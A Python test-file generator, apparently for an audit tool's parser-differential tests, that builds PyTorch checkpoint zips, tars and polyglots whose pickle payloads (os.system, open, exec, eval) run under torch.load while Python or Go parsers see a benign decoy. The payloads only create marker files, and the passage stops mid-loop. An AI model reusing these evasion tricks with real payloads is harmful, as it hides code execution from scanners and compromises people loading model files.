# differential.py — the parser-differential battery for `vidcache audit` and
# cachefmt.Load (see cachefmt/pickle/audit_differential_test.go): files that torch
# reads one way and another parser (Python zipfile/tarfile, Go archive/zip,
# archive/tar, a naive reader) another, with the payload where torch looks
# and a benign decoy where the other parser looks. The reading rules are
# those of shared/reference/torch-load-readers.md (miniz for zips, Python
# tarfile for tars, the five-pickle legacy sequence otherwise). Modes:
#   differential.py hostile DIR  write the files (standard library only) and
#                                DIR/differential.json: [{name, path, marker,
#                                kind, torch, trick, python}]; torch lists the
#                                torches expected to run the payload with
#                                weights_only=False, python what Python's
#                                zipfile/tarfile read there.
#   differential.py prove DIR    load each listed file in a forked child with
#                                torch.load(path, weights_only=False) and with
#                                torch.load(path) (this torch's default), bombs
#                                only with weights_only=True; report whether
#                                the marker appeared; print JSON. One torch at
#                                a time: the markers are shared.
#   differential.py prove DIR KINDS  the same for the files of those kinds
#                                (comma-separated: zip,tar,polyglot,import,bomb).
# Every payload only creates its own marker file (DIR/markers/NAME.ran).
# Kinds: zip, tar, polyglot, import (runs code: hostile) and bomb (benign,
# big when read: budgets; no marker).
import json, os, pickle, struct, sys, tarfile, zipfile, zlib

# battery.py's pickle pieces (proto, bu, su, sbs, s0, glob, tup, calls,
# wrap, legacy, MAGIC): torchpeer pastes it in here; its own main must not run.
_main, __name__ = __name__, "battery"
# include: battery.py
__name__ = _main
if "wrap" not in globals():  # run from the source tree, not through torchpeer
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from battery import MAGIC, proto, su, bu, sbs, s0, glob, tup, calls, wrap, legacy  # noqa: E402

ALL = ["1.13", "2.6", "2.14"]

# Payload techniques: (protocol, how strings are pushed, battery.py call).
TECH = {
    "open": (2, bu, "open"),
    "exec": (2, bu, "exec"),
    "memo": (4, su, "stack-global-memo"),
    "system": (0, s0, "os-system"),
    "getattr": (2, bu, "getattr-import"),
    "inst": (1, sbs, "inst"),
}


def payload(marker, tech, shape="dict"):
    p, strf, cname = TECH[tech]
    return wrap(shape, calls(marker, strf, p >= 4)[cname], strf, p)


# The benign decoy a second parser reads (the word "decoy" tags it).
DECOY = pickle.dumps({"decoy": "benign: what the other parser reads", "epoch": 7}, protocol=2)


def bint(n):  # the smallest weights_only int opcode for n >= 0
    if n < 256:
        return b"K" + bytes([n])
    if n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def tensor(key, numel, offset, size, storage="LongStorage"):
    """torch._utils._rebuild_tensor_v2 of a 1-D view, as torch.save pickles it."""
    pid = tup(bu("storage"), glob("torch", storage), bu(key), bu("cpu"), bint(numel)) + b"Q"
    return (glob("torch._utils", "_rebuild_tensor_v2")
            + tup(pid, bint(offset), bint(size) + b"\x85", b"K\x01\x85", b"\x89", glob("collections", "OrderedDict") + b")R")
            + b"R")


PTS = [0, 1001, 2002, 3003, 4004, 0, 512, 1024, 1536]  # two videos' pts in one storage
PTS_REC = b"".join(struct.pack("<q", v) for v in PTS)


def tv_metadata(extra=b"", fps=None):
    """A genuine-looking torchvision VideoClips metadata dict (video_paths, video_pts as int64
    tensor views of one storage, video_fps), protocol 2; extra = more key/value pickles."""
    paths = ["/datasets/kinetics400/train/abseiling/0347ZoDXyP0_000095_000105.mp4",
             "/datasets/kinetics400/train/archery/-0wO7VpVvfQ_000028_000038.mp4"]
    if fps is None:
        fps = [b"G" + struct.pack(">d", 30000 / 1001), b"G" + struct.pack(">d", 25.0)]
    return (proto(2) + b"}("
            + bu("video_paths") + b"](" + b"".join(bu(p) for p in paths) + b"e"
            + bu("video_pts") + b"](" + tensor("0", len(PTS), 0, 5) + tensor("0", len(PTS), 5, 4) + b"e"
            + bu("video_fps") + b"](" + b"".join(fps) + b"e"
            + extra + b"u.")


# --- zips, byte by byte -------------------------------------------------------

class Zip:
    """A zip written field by field: every offset, count and name is the caller's."""

    def __init__(self):
        self.b = bytearray()

    def pos(self):
        return len(self.b)

    def put(self, data):
        self.b += data

    def local(self, name, data, deflate=False, local_name=None, crc=None, align=64,
              ext_attr=0o100644 << 16, made_by=0x0314, raw=None, usize=None):
        """A local header and its data; returns the entry for cd(). Data starts at a
        multiple of align (an FB extra field pads it, as torch.save does)."""
        name = name.encode() if isinstance(name, str) else name
        lname = name if local_name is None else local_name
        if raw is None:
            if deflate:
                c = zlib.compressobj(9, zlib.DEFLATED, -15)
                raw = c.compress(data) + c.flush()
            else:
                raw = data
            usize = len(data)
            crcv = zlib.crc32(data) if crc is None else crc
        else:
            crcv = crc
        off = self.pos()
        extra = b""
        if align:
            pad = (-(off + 30 + len(lname) + 4)) % align
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        method = 8 if deflate else 0
        self.b += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crcv,
                              len(raw), usize, len(lname), len(extra)) + lname + extra + raw
        return dict(name=name, offset=off, method=method, crc=crcv, csize=len(raw), usize=usize,
                    ext_attr=ext_attr, made_by=made_by)

    @staticmethod
    def cdh(e, **o):
        e = dict(e, **o)
        return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, e["made_by"], 20, 0, e["method"], 0, 0x21,
                           e["crc"], e["csize"], e["usize"], len(e["name"]), 0, 0, 0, 0,
                           e["ext_attr"], e["offset"]) + e["name"]

    def cd(self, entries, shift=0):
        """Central directory headers (offsets minus shift); returns (offset, size, count)."""
        off = self.pos()
        for e in entries:
            self.b += self.cdh(e, offset=e["offset"] - shift)
        return off, self.pos() - off, len(entries)

    def eocd(self, count, size, off, comment=b"", comment_len=None):
        at = self.pos()
        self.b += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, off,
                              len(comment) if comment_len is None else comment_len) + comment
        return at

    def end(self, cd, **kw):
        return self.eocd(cd[2], cd[1], cd[0], **kw)

    def zip64(self, cd):
        at = self.pos()
        self.b += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, cd[2], cd[2], cd[1], cd[0])
        return at

    def locator(self, rec):
        self.b += struct.pack("<IIQI", 0x07064B50, 0, rec, 1)

    def bytes(self):
        return bytes(self.b)


def torch_zip(pkl, storages=(), deflate_pkl=False):
    """A zip laid out as torch.save writes one: archive/data.pkl, byteorder, data/<key>...,
    version, .data/serialization_id, each record's data 64-byte aligned, stored."""
    z = Zip()
    es = [z.local("archive/data.pkl", pkl, deflate=deflate_pkl), z.local("archive/byteorder", b"little")]
    for key, data in storages:
        es.append(z.local("archive/data/" + key, data))
    es.append(z.local("archive/version", b"3\n"))
    es.append(z.local("archive/.data/serialization_id", b"1507947268452017404615066826427133488"))
    z.end(z.cd(es))
    return z.bytes()


BENIGN_TENSOR_PKL = (proto(2) + b"}(" + bu("decoy") + bu("benign torch zip") + bu("weight")
                     + tensor("0", len(PTS), 0, len(PTS)) + b"u.")
BENIGN_ZIP = torch_zip(BENIGN_TENSOR_PKL, [("0", PTS_REC)])
TV_ZIP = torch_zip(tv_metadata(bu("decoy") + bu("torchvision metadata")), [("0", PTS_REC)])


def miniz_order(names):
    """The order miniz's heap sort (mz_zip_reader_sort_central_dir_offsets_by_filename)
    leaves CD indices in: ASCII-lower-cased names, shorter first on a tie."""
    n, idx, low = len(names), list(range(len(names))), [x.lower() for x in names]

    def less(a, b):
        l, r = low[a], low[b]
        for x, y in zip(l, r):
            if x != y:
                return x < y
        return len(l) < len(r)

    def sift(root, end):
        while True:
            child = root * 2 + 1
            if child >= end:
                return
            if child + 1 < end and less(idx[child], idx[child + 1]):
                child += 1
            if not less(idx[root], idx[child]):
                return
            idx[root], idx[child] = idx[child], idx[root]
            root = child

    if n <= 1:
        return idx
    for start in range((n - 2) >> 1, -1, -1):
        sift(start, n)
    for end in range(n - 1, 0, -1):
        idx[end], idx[0] = idx[0], idx[end]
        sift(0, end)
    return idx


def miniz_pick(names, target):
    """The CD index mz_zip_locate_file_binary_search returns for target (or None)."""
    idx, t = miniz_order(names), target.lower()
    lo, hi = 0, len(names) - 1
    while lo <= hi:
        m = lo + ((hi - lo) >> 1)
        s = names[idx[m]].lower()
        comp = next((x - y for x, y in zip(s, t) if x != y), len(s) - len(t))
        if comp == 0:
            return idx[m]
        lo, hi = (m + 1, hi) if comp < 0 else (lo, m - 1)
    return None


# --- tars, byte by byte -------------------------------------------------------

def tar_header(name, size, typeflag=b"0", mode=b"0000644\0", uid=b"0001750\0", gid=b"0001750\0",
               size_field=None, mtime=b"14727165240\0", magic=b"ustar\x0000", prefix=b"",
               at_345=None, chksum=None, linkname=b""):
    """One 512-byte header; chksum(sum) formats the checksum field (default "%06o\\0 ")."""
    h = bytearray(512)

    def put(off, n, v):
        assert len(v) <= n, (off, v)
        h[off:off + len(v)] = v

    put(0, 100, name)
    put(100, 8, mode)
    put(108, 8, uid)
    put(116, 8, gid)
    put(124, 12, size_field if size_field is not None else b"%011o\0" % size)
    put(136, 12, mtime)
    put(148, 8, b" " * 8)
    put(156, 1, typeflag)
    put(157, 100, linkname)
    put(257, 8, magic)
    if magic.startswith(b"ustar"):
        put(265, 32, b"root")
        put(297, 32, b"root")
    put(345, 155, prefix if at_345 is None else at_345)
    s = sum(h)
    put(148, 8, chksum(s) if chksum else b"%06o\0 " % s)
    return bytes(h)


def tar_member(header, data):
    return header + data + b"\0" * (-len(data) % 512)


def tar_file(name, data, **kw):
    return tar_member(tar_header(name if isinstance(name, bytes) else name.encode(), len(data), **kw), data)


TAR_END = b"\0" * 1024
STORAGES0 = pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)  # no storages, no views
TENSORS0 = pickle.dumps(0, protocol=2)


def pax(records):
    """PAX records ("LEN key=value\\n", LEN counting itself)."""
    out = b""
    for k, v in records:
        body = b" %s=%s\n" % (k, v)
        n = len(body) + 1
        while len(str(n)) + len(body) != n:
            n = len(str(n)) + len(body)
        out += str(n).encode() + body
    return out


# --- what Python's own parsers read (recorded for the report) ----------------

def tag(b):
    if b".ran" in b:
        return "hostile"
    return "decoy" if b"decoy" in b else "other"


def python_view(path):
    try:
        with zipfile.ZipFile(path) as z:
            top = z.namelist()[0].split("/")[0]
            return "zipfile: data.pkl %s" % tag(z.read(top + "/data.pkl"))
    except Exception as e:
        zerr = "%s %s" % (type(e).__name__, str(e)[:60])
    try:
        with tarfile.open(path, "r:") as t:
            got = []
            for m in ("storages", "pickle"):
                try:
                    got.append("%s %s" % (m, tag(t.extractfile(m).read())))
                except Exception as e:
                    got.append("%s %s" % (m, type(e).__name__))
            return "tarfile: " + ", ".join(got)
    except Exception as e:
        terr = type(e).__name__
    return "zipfile: %s; tarfile: %s" % (zerr, terr)


# --- the files -----------------------------------------------------------------

def write_hostile(out):
    # A payload's length depends on DIR's; where a hostile legacy pickle
    # would end exactly at byte 512 (torch would then see a zip there), the
    # markers are spelled DIR/markers/./NAME.ran instead (the same files).
    try:
        _write_hostile(out, "")
    except AssertionError as e:
        if "zip at 512" not in str(e):
            raise
        _write_hostile(out, ".")


def _write_hostile(out, salt):
    os.makedirs(os.path.join(out, "markers"), exist_ok=True)
    files = []

    def marker(name):
        return os.path.join(out, "markers", salt, name + ".ran")

    def rel(name):  # for payloads short of room; prove runs torch.load in DIR
        return "markers/" + name + ".ran"

    def add(name, data, kind, trick, torch=ALL):
        path = os.path.join(out, name)
        with open(path, "wb") as f:
            f.write(data)
        files.append({"name": name, "path": path, "marker": "" if kind == "bomb" else marker(name),
                      "kind": kind, "torch": list(torch), "trick": trick,
                      "python": python_view(path) if kind != "bomb" else ""})

    P = "archive/"
    V = b"archive/version"
    D = b"archive/data.pkl"

    # ---- 1. zips -------------------------------------------------------------
    # 1a. Two central directories: the end record's offset names CD1 (hostile;
    #     miniz and Go read it), Python reads the size_cd bytes before the end
    #     record (CD2: the decoy).
    for tech, hide, gap in (("open", False, 0), ("memo", False, 64), ("system", True, 0)):
        name = "zip-two-cd-%s%s%s.pt" % (tech, "-cd-in-record" if hide else "", "-gap" if gap else "")
        z = Zip()
        # An unlisted record first: every listed one then sits past the shift
        # Python applies to CD2's offsets (EOCD_pos - size_cd - offset_cd).
        z.local(P + "data/1", b"\0" * 1024)
        eh = z.local(P + "data.pkl", payload(marker(name), tech))
        ev = z.local(P + "version", b"3\n")
        eb = z.local(P + "byteorder", b"little")
        ed = z.local(P + "data.pkl", DECOY)
        cd1 = b"".join(Zip.cdh(e) for e in (eh, eb, ev))
        cd2_entries = [ed, eb, ev]
        if hide:  # CD1 is the data of a stored record that Python lists
            cd1_off = z.pos() + 30 + len(P + "data/0") + 4
            cd1_off += (-cd1_off) % 64
            cd2_entries.append(z.local(P + "data/0", cd1))
            assert z.b[cd1_off:cd1_off + 4] == b"PK\x01\x02"
        else:
            cd1_off = z.pos()
            z.put(cd1)
        z.put(b"\0" * gap)  # with a gap Go stops after CD1; without, it reads on into CD2 and refuses the count
        start = z.pos()
        z.cd(cd2_entries, shift=start - cd1_off)
        z.eocd(3, z.pos() - start, cd1_off)
        add(name, z.bytes(), "zip", "two central directories: the stated offset (torch, Go) vs the one before the end record (Python)")

    # 1b. zip64 locator and record while the EOCD is not saturated: miniz takes
    #     the record's CD (hostile), Go the EOCD's (decoy).
    for tech, gap in (("open", 0), ("exec", 16), ("memo", 0)):
        name = "zip64-unsaturated-%s%s.pt" % (tech, "-record-apart" if gap else "")
        z = Zip()
        ed = z.local(P + "data.pkl", DECOY)
        eh = z.local(P + "data.pkl", payload(marker(name), tech))
        ev = z.local(P + "version", b"3\n")
        cda = z.cd([ed, ev])
        z.put(b"\0" * 64)  # Go reads CD A to its end: a gap, not CD B, follows it
        cdb = z.cd([eh, ev])
        rec = z.zip64(cdb)
        z.put(b"\0" * gap)
        z.locator(rec)
        z.end(cda)
        add(name, z.bytes(), "zip", "zip64 record (torch) vs unsaturated EOCD (Go)%s" % (", record not adjacent to the locator" if gap else ""))

    # 1c. Two zip64 records: the locator names rec1 (CD A, hostile), rec2 sits
    #     right before the locator (CD B, decoy; old Python's pick); the EOCD
    #     names CD B (Go's pick) or is saturated.
    for tech, sat in (("open", False), ("system", True), ("getattr", False)):
        name = "zip64-two-records-%s%s.pt" % (tech, "-saturated" if sat else "")
        z = Zip()
        eh = z.local(P + "data.pkl", payload(marker(name), tech))
        ed = z.local(P + "data.pkl", DECOY)
        ev = z.local(P + "version", b"3\n")
        cda = z.cd([eh, ev])
        rec1 = z.zip64(cda)
        cdb = z.cd([ed, ev])
        z.zip64(cdb)
        z.locator(rec1)
        if sat:
            z.eocd(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        else:
            z.end(cdb)
        add(name, z.bytes(), "zip", "two zip64 records: the locator's (torch) vs the one adjacent to the locator (Python <= 3.13.0)%s" % ("" if sat else " and the EOCD's (Go)"))

    # 1d. An end record inside another's comment: miniz takes the last
    #     signature (hostile CD); a reader that wants the comment to reach
    #     the end of the file takes the first (decoy).
    for tech, cd_in_comment in (("open", False), ("exec", True)):
        name = "zip-eocd-in-comment-%s%s.pt" % (tech, "-with-cd" if cd_in_comment else "")
        z = Zip()
        eh = z.local(P + "data.pkl", payload(marker(name), tech))
        ed = z.local(P + "data.pkl", DECOY)
        ev = z.local(P + "version", b"3\n")
        cdd = z.cd([ed, ev])
        if not cd_in_comment:
            cdh = z.cd([eh, ev])
            z.end(cdd, comment_len=22)
            z.end(cdh)
        else:
            inner = Zip()
            inner.b = bytearray(len(z.b) + 22)  # positions as they will be
            cdh = inner.cd([eh, ev])
            inner.end(cdh)
            tail = bytes(inner.b[len(z.b) + 22:])
            z.end(cdd, comment=tail)
        add(name, z.bytes(), "zip", "an end record in another's comment%s" % (" (the hostile CD too)" if cd_in_comment else ""))

    # 1e. Trailing bytes: 'PK\5\6' + 10 bytes (Python gives up, torch and Go
    #     read the real end record); a comment length with no comment (Go
    #     gives up); 67,000 bytes after the end record (within miniz's ~69.5 KB
    #     search, beyond Python's 65,557 and Go's 66,560).
    for tech, trail in (("open", "sig10"), ("memo", "sig10"), ("exec", "comment-len"), ("open", "window"), ("system", "window")):
        name = "zip-trailing-%s-%s.pt" % (trail, tech)
        z = Zip()
        es = [z.local(P + "data.pkl", payload(marker(name), tech)), z.local(P + "version", b"3\n")]
        if trail == "window":
            es.append(z.local(P + "data/0", b"\0" * 8192))  # the end record > 4 KB from byte 0
        cd = z.cd(es)
        if trail == "comment-len":
            z.end(cd, comment_len=40)
        else:
            z.end(cd)
        if trail == "sig10":
            z.put(b"PK\x05\x06" + b"\0" * 10)
        if trail == "window":
            z.put(legacy(DECOY) + b"\0" * (67000 - len(legacy(DECOY))))
        add(name, z.bytes(), "zip", {"sig10": "trailing PK\\5\\6 + 10 bytes", "comment-len": "EOCD comment length 40, no comment",
                                     "window": "67,000 bytes after the end record (a benign legacy file)"}[trail])

    # 1f. Directory attributes. miniz calls an entry a directory for a name
    #     ending in '/' or attribute bit 0x10 (and then hands torch
    #     uninitialised memory); Go's FileInfo().IsDir() also for a Unix
    #     S_IFDIR mode, which miniz ignores.
    unix_dir = 0o040755 << 16
    for tech in ("open", "memo"):
        name = "zip-unix-dir-mode-%s.pt" % tech
        z = Zip()
        es = [z.local(P + "data.pkl", payload(marker(name), tech), ext_attr=unix_dir), z.local(P + "version", b"3\n")]
        z.end(z.cd(es))
        add(name, z.bytes(), "zip", "data.pkl with a Unix S_IFDIR mode: a folder to Go, a file to miniz")
    # The decoy carries attribute 0x10 (Go still opens its data; miniz would
    # return garbage for it but lands on the hostile duplicate).
    for tech, hostile_name, dir_hostile in (("exec", b"archive/data.pkl", False), ("open", b"archive/Data.pkl", False),
                                            ("getattr", b"archive/data.pkl", True)):
        name = "zip-dir-attr-decoy-%s%s%s.pt" % (tech, "-case" if hostile_name != D else "", "-unix-dir" if dir_hostile else "")
        names = [V, D, hostile_name, D]
        assert miniz_pick(names, D) == 2
        z = Zip()
        ev = z.local(V, b"3\n")
        ed1 = z.local(D, DECOY, ext_attr=0x10, made_by=0x0014)
        eh = z.local(hostile_name, payload(marker(name), tech), ext_attr=unix_dir if dir_hostile else 0o100644 << 16)
        ed2 = z.local(D, DECOY, ext_attr=0x10, made_by=0x0014)
        z.end(z.cd([ev, ed1, eh, ed2]))
        add(name, z.bytes(), "zip", "duplicate data.pkl: the FAT-directory decoys (Go reads them, miniz skips past) around the hostile one miniz lands on%s" % (
            " (itself a Unix directory to Go)" if dir_hostile else ""))

    # 1g. Duplicate names: miniz's binary search over its heap-sorted CD lands
    #     in the middle; Python and Load take the last, Go's fs.FS the first.
    for tech, names, h in (("open", [V, D, D, D], 2), ("memo", [V, D, D, D, D], 3), ("system", [V, D, P.encode() + b"byteorder", D, P.encode() + b"zz", D], 3),
                           ("exec", [V, D, b"archive/Data.pkl"], 2), ("inst", [V, b"archive/DATA.PKL", b"archive/Data.Pkl", D], 2)):
        assert miniz_pick(names, D) == h, (names, miniz_pick(names, D))
        case = any(n.lower() == D and n != D for n in names)
        name = "zip-duplicate-%s-%d%s.pt" % (tech, len(names), "-case" if case else "")
        z = Zip()
        es = []
        for i, n in enumerate(names):
            if n.lower() != D:
                es.append(z.local(n, {V: b"3\n", P.encode() + b"byteorder": b"little"}.get(n, b"zz")))
            elif i == h:
                es.append(z.local(n, payload(marker(name), tech)))
            else:
                es.append(z.local(n, DECOY))
        z.end(z.cd(es))
        add(name, z.bytes(), "zip", "duplicate data.pkl names%s: miniz lands on CD entry %d of %d" % (" in other cases" if case else "", h, len(names)))

    # 1h. An embedded NUL: miniz compares full lengths (the plain name is the
    #     hostile one); Python truncates at the NUL (its last 'data.pkl' is the decoy).
    for tech, order in (("open", "version-last"), ("exec", "version-first")):
        name = "zip-nul-name-%s-%s.pt" % (tech, order)
        z = Zip()
        eh = z.local(D, payload(marker(name), tech))
        ed = z.local(D + b"\0.bak", DECOY)
        ev = z.local(V, b"3\n")
        z.end(z.cd([eh, ed, ev] if order == "version-last" else [ev, eh, ed]))
        add(name, z.bytes(), "zip", "data.pkl next to 'data.pkl\\0.bak' (Python reads the latter as data.pkl)")

    # 1i. Local name != CD name: the CD's data.pkl points at a local header
    #     named otherwise; a local-header (streaming) reader sees the decoy.
    for tech, lname in (("open", b"archive/data/9"), ("memo", b"archive/data.pkl.orig")):
        name = "zip-local-name-%s.pt" % tech
        z = Zip()
        ed = z.local(D, DECOY)  # unreferenced by the CD
        eh = z.local(D, payload(marker(name), tech), local_name=lname)
        ev = z.local(V, b"3\n")
        z.end(z.cd([eh, ev]))
        add(name, z.bytes(), "zip", "CD data.pkl -> local header named %s; an unlisted local data.pkl (decoy) before it" % lname.decode())

    # 1j. Entry count smaller than the entries within the CD size: miniz
    #     parses exactly count entries, Python all (its last data.pkl: decoy),
    #     Go all and then refuses the count.
    for tech, layout in (("open", "vhd"), ("system", "hvbd")):
        name = "zip-count-short-%s-%s.pt" % (tech, layout)
        z = Zip()
        e = {"v": z.local(V, b"3\n"), "h": z.local(D, payload(marker(name), tech)),
             "b": z.local(P + "byteorder", b"little"), "d": z.local(D, DECOY)}
        off, size, _ = z.cd([e[c] for c in layout])
        z.eocd(len(layout) - 1, size, off)
        add(name, z.bytes(), "zip", "EOCD counts %d entries, the CD size holds %d (the last a decoy data.pkl)" % (len(layout) - 1, len(layout)))

    # 1k. A wrong CRC on the hostile data.pkl: PyTorch builds skip the check.
    for tech, deflate in (("open", False), ("exec", True)):
        name = "zip-bad-crc-%s-%s.pt" % (tech, "deflate" if deflate else "store")
        z = Zip()
        data = payload(marker(name), tech)
        es = [z.local(D, data, deflate=deflate, crc=zlib.crc32(data) ^ 0x5A5A5A5A), z.local(V, b"3\n")]
        z.end(z.cd(es))
        add(name, z.bytes(), "zip", "wrong CRC-32 on data.pkl (%s)" % ("deflated" if deflate else "stored"))

    # ---- 2. tars -------------------------------------------------------------
    # torch tries tarfile.open on a path first; Python's tarfile decides.
    # 2a. Go accepts the first header, Python rejects it: torch unpickles
    #     from byte 0, and the header's name field is a protocol-0 pickle.
    #     Base-256 numbers whose first byte is neither 0x80 nor 0xFF.
    for field, tech in (("mode", "system"), ("uid", "inst"), ("gid", "eval")):
        name = "tar-go-only-b256-%s-%s.pt" % (field, tech)
        m = rel(name)
        text = {"system": glob("os", "system") + tup(s0("touch " + m)) + b"R.",
                "inst": b"(" + s0(m) + s0("w") + b"ibuiltins\nopen\n.",
                "eval": glob("__builtin__", "eval") + tup(s0("open(%r, 'w').close()" % m)) + b"R."}[tech]
        num = b"\x81" + b"\0" * 6 + b"\x01"
        kw = {field: num}
        hdr = tar_header(text, len(DECOY), **kw)
        assert b"\0" not in text and len(text) <= 100
        add(name, tar_member(hdr, DECOY) + TAR_END, "tar",
            "first tar header with a base-256 %s (first byte 0x81): Go reads a tar (one benign member), Python refuses it and torch unpickles the header's name field" % field)

    # 2b. Python accepts, Go rejects: the checksum spelled as int(s, 8)
    #     allows. The first member is named like a benign pickle (PROTO 2,
    #     EMPTY_DICT, STOP): what a reader that falls back to pickles sees at
    #     byte 0.
    spell = {"underscore": lambda s: (b"%06o" % s)[:1] + b"_" + (b"%06o" % s)[1:] + b"\0",
             "0o": lambda s: b"0o%05o\0" % s if s < 0o100000 else b"0o%o" % s,
             "plus": lambda s: b"+%06o\0" % s,
             "tab": lambda s: b"\t%06o\0" % s}
    for how, member, tech in (("underscore", "storages", "open"), ("underscore", "pickle", "exec"),
                              ("0o", "storages", "memo"), ("plus", "pickle", "open"), ("tab", "storages", "system")):
        name = "tar-python-only-chksum-%s-%s-%s.pt" % (how, member, tech)
        h = payload(marker(name), tech)
        mem = {"storages": STORAGES0, "tensors": TENSORS0, "pickle": DECOY}
        mem[member] = h
        t = tar_file(b"\x80\x02}.", DECOY, chksum=spell[how])
        for mname in ("storages", "tensors", "pickle"):
            t += tar_file(mname, mem[mname], chksum=spell[how])
        add(name, t + TAR_END, "tar", "checksums spelled %r: Python reads the tar (hostile %s), Go refuses it and sees a pickle at byte 0" % (spell[how](0o12345).decode("latin-1"), member))

    # 2c. Members of other types: Python's extractfile reads unknown types
    #     and CONTTYPE as files; a reader taking only regular files skips them.
    for member, typeflag, tech in (("pickle", b"Z", "open"), ("pickle", b"7", "exec"), ("pickle", b"\0", "memo"),
                                   ("storages", b"Z", "system"), ("storages", b"7", "open")):
        name = "tar-typeflag-%s-%s-%s.pt" % ({b"Z": "Z", b"7": "7", b"\0": "NUL"}[typeflag], member, tech)
        mem = {"storages": STORAGES0, "tensors": TENSORS0, "pickle": DECOY}
        mem[member] = payload(marker(name), tech)
        t = b""
        for mname in ("storages", "tensors", "pickle"):
            t += tar_file(mname, mem[mname], typeflag=typeflag if mname == member else b"0")
        # Python 3.14's extraction filter refuses a 'Z' storages (torch 2.14
        # then reads the pickle stream at byte 0: a header).
        add(name, t + TAR_END, "tar", "hostile %s member with typeflag %r" % (member, typeflag.decode()),
            torch=["1.13", "2.6"] if (member, typeflag) == ("storages", b"Z") else ALL)

    # 2d. A Solaris 'X' (or a global 'g') extended header renames the next
    #     member (or all following) to 'pickle' for Python only; the last
    #     'pickle' wins.
    for xt, typeflag, tech in ((b"X", b"0", "open"), (b"X", b"Z", "exec"), (b"g", b"0", "system")):
        name = "tar-%s-header-rename-%s%s.pt" % ("solaris-X" if xt == b"X" else "global-g", tech, "-typeflag-Z" if typeflag == b"Z" else "")
        t = tar_file("storages", STORAGES0) + tar_file("tensors", TENSORS0) + tar_file("pickle", DECOY)
        recs = pax([(b"path", b"pickle")])
        t += tar_file("PaxHeaders/notes.txt", recs, typeflag=xt)
        t += tar_file("notes.txt", payload(marker(name), tech), typeflag=typeflag)
        add(name, t + TAR_END, "tar", "%r header with path=pickle before 'notes.txt' (hostile); an earlier real 'pickle' is the decoy" % xt.decode())

    # 2e. The prefix field: Python joins it to the name for V7 and GNU
    #     headers too; Go does not. The decoy is a later 'pickle' that only
    #     Go calls 'pickle'.
    for kind, tech in (("v7-prefix", "open"), ("gnu-atime", "memo")):
        name = "tar-%s-decoy-%s.pt" % (kind, tech)
        t = tar_file("storages", STORAGES0) + tar_file("tensors", TENSORS0) + tar_file("pickle", payload(marker(name), tech))
        if kind == "v7-prefix":
            t += tar_file("pickle", DECOY, magic=b"", prefix=b"zz")
        else:
            t += tar_file("pickle", DECOY, magic=b"ustar  \0", at_345=b"00000000001\0")
        add(name, t + TAR_END, "tar", "a second 'pickle' (decoy) that Python names %s/pickle" % ("zz" if kind == "v7-prefix" else "00000000001"))

    # 2f. Links: Python's extractfile follows a hard or symbolic link to its
    #     target's data (and extract() writes the target's data for a hard
    #     link); a reader that takes 'pickle' or 'storages' by name and type
    #     sees a data-less link. The target, 'notes.txt', has typeflag Z.
    for member, link, tech in (("pickle", b"1", "open"), ("pickle", b"2", "exec"), ("storages", b"1", "memo")):
        name = "tar-%s-%s-to-notes-%s.pt" % ({b"1": "hardlink", b"2": "symlink"}[link], member, tech)
        mem = {"storages": STORAGES0, "tensors": TENSORS0, "pickle": DECOY}
        t = tar_file("notes.txt", payload(marker(name), tech), typeflag=b"Z")
        for mname in ("storages", "tensors", "pickle"):
            if mname == member:
                t += tar_member(tar_header(mname.encode(), 0, typeflag=link, linkname=b"notes.txt"), b"")
            else:
                t += tar_file(mname, mem[mname])
        add(name, t + TAR_END, "tar", "'%s' is a %s to 'notes.txt' (hostile, typeflag Z)" % (member, {b"1": "hard link", b"2": "symbolic link"}[link]),
            torch=["1.13", "2.6"] if member == "storages" else ALL)  # 3.14's filter refuses extracting a Z target

    # 2g. torch falls back to the pickle stream at byte 0 on any TarError,
    #     also one raised while extracting 'storages' from a tar that opened:
    #     Python 3.14's default extraction filter ('data') raises one for a
    #     hard link leaving the folder or a member of unknown type, where
    #     3.11-3.13 extract (or fail with KeyError). The first member's name
    #     field is a protocol-0 pickle: only torch 2.14 (Python 3.14) runs it.
    for how, tech in (("hardlink-outside", "system"), ("typeflag-Z", "inst")):
        name = "tar-py314-filter-fallback-%s-%s.pt" % (how, tech)
        m = rel(name)
        text = {"system": glob("os", "system") + tup(s0("touch " + m)) + b"R.",
                "inst": b"(" + s0(m) + s0("w") + b"ibuiltins\nopen\n."}[tech]
        assert b"\0" not in text and len(text) <= 100
        t = tar_file(text, DECOY)
        if how == "hardlink-outside":
            t += tar_member(tar_header(b"storages", 0, typeflag=b"1", linkname=b"../storages"), b"")
        else:
            t += tar_file("storages", STORAGES0, typeflag=b"Z")
        t += tar_file("tensors", TENSORS0) + tar_file("pickle", DECOY)
        add(name, t + TAR_END, "tar", "a tar whose 'storages' %s fails Python 3.14's extraction filter: torch 2.14 re-reads the file as pickles from byte 0, a header's name field"
            % ("(a hard link to ../storages)" if how == "hardlink-outside" else "(typeflag Z)"), torch=["2.14"])

    # 2h. A size field starting with NUL: Python reads size 0, Go the digits
    #     after the NUL (1024): Python's next header ('pickle', hostile) and
    #     its data are the data of Go's member (typeflag Z, not a regular file).
    for tech in ("open", "exec"):
        name = "tar-size-nul-smuggle-%s.pt" % tech
        h = payload(marker(name), tech)
        assert len(h) <= 512
        t = tar_file("storages", STORAGES0) + tar_file("tensors", TENSORS0)
        t += tar_header(b"README", 0, typeflag=b"Z", size_field=b"\x000000002000\0")
        t += tar_file("pickle", h)
        add(name, t + TAR_END, "tar", "README's size field '\\0' + octal 2000: Python size 0 (then a hostile 'pickle' header), Go 1024 bytes of README")

    # ---- 3. polyglots ----------------------------------------------------------
    def no_zip_at_512(data):
        # After tarfile fails, torch checks for 'PK\3\4' where tarfile stopped
        # (byte 512): there it would refuse the file as a zip archive.
        assert data[512:516] != b"PK\x03\x04", "zip at 512"
        return data

    # 3a. A hostile legacy pickle, then a byte-exact torch zip (benign): torch
    #     reads the pickle stream, Go's and Python's zip readers find the zip.
    for tech, where in (("open", "magic"), ("memo", "magic"), ("exec", "object")):
